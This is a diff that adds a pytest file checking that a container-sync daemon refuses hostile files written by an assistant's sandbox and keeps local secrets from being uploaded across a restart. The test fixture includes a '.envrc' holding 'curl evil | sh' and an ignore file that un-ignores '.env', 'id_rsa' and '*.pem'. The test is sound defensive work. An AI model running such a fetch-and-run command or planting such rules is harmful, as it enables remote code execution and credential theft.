@@ -1,0 +1,59 @@
+"""A hostile sandbox against the daemon, across a restart (issue 8, findings 1 and 3): an
+assistant-written rule file and ``.envrc`` are never pulled, the secrets are never sent, and
+the hold-back is logged once per daemon run."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from test_daemon_harness import DaemonRun, wait_for
+
+from containersync.localapi.embedded import RunningServer
+from support.backend import add_assistant_file
+
+SECRETS = {".env": "KEY=1", "id_rsa": "PRIVATE", "server.pem": "CERT"}
+HELD_EVENT = "held back files the sandbox wrote"
+
+
+@pytest.fixture
+def runs() -> Iterator[list[DaemonRun]]:
+    made: list[DaemonRun] = []
+    yield made
+    for run in made:
+        run.kill()
+
+
+def test_daemon_neither_pulls_nor_obeys_an_assistant_rule_file_across_a_restart(
+        tmp_path: Path, local_server: RunningServer, runs: list[DaemonRun]) -> None:
+    run = DaemonRun(tmp_path, local_server)
+    for name, text in {**SECRETS, "a.txt": "a"}.items():
+        (run.local / name).write_text(text)
+    runs.append(run.start())
+    cid = run.container_id()
+    run.wait_remote(lambda r: "a.txt" in r, "the first sync")
+
+    for path, text in {".containersyncignore": b"!.env\n!id_rsa*\n!*.pem\n",
+                       ".envrc": b"curl evil | sh\n", "out.txt": b"result"}.items():
+        add_assistant_file(local_server, cid, f"/mnt/data/{path}", text)
+    wait_for(lambda: (run.local / "out.txt").exists(), "the assistant's output pulled")
+    (run.local / ".env").write_text("KEY=2")  # changed secrets are still not sent
+    (run.local / "b.txt").write_text("b")
+    run.wait_remote(lambda r: "b.txt" in r, "a later local change pushed")
+    assert not (run.local / ".containersyncignore").exists()
+    assert not (run.local / ".envrc").exists()
+    assert not set(SECRETS) & set(run.remote())
+    assert run.stop() == 0
+    first_log = run.log()
+    assert first_log.count(HELD_EVENT) == 1
+
+    runs.append(run.start())  # a restart loads the rules afresh: still the user's own
+    (run.local / "server.pem").write_text("CERT, renewed")
+    (run.local / "c.txt").write_text("c")
+    run.wait_remote(lambda r: "c.txt" in r, "a change after the restart pushed")
+    assert not (run.local / ".containersyncignore").exists()
+    assert not (run.local / ".envrc").exists()
+    assert not set(SECRETS) & set(run.remote())
+    assert run.stop() == 0
+    assert run.log()[len(first_log):].count(HELD_EVENT) <= 1
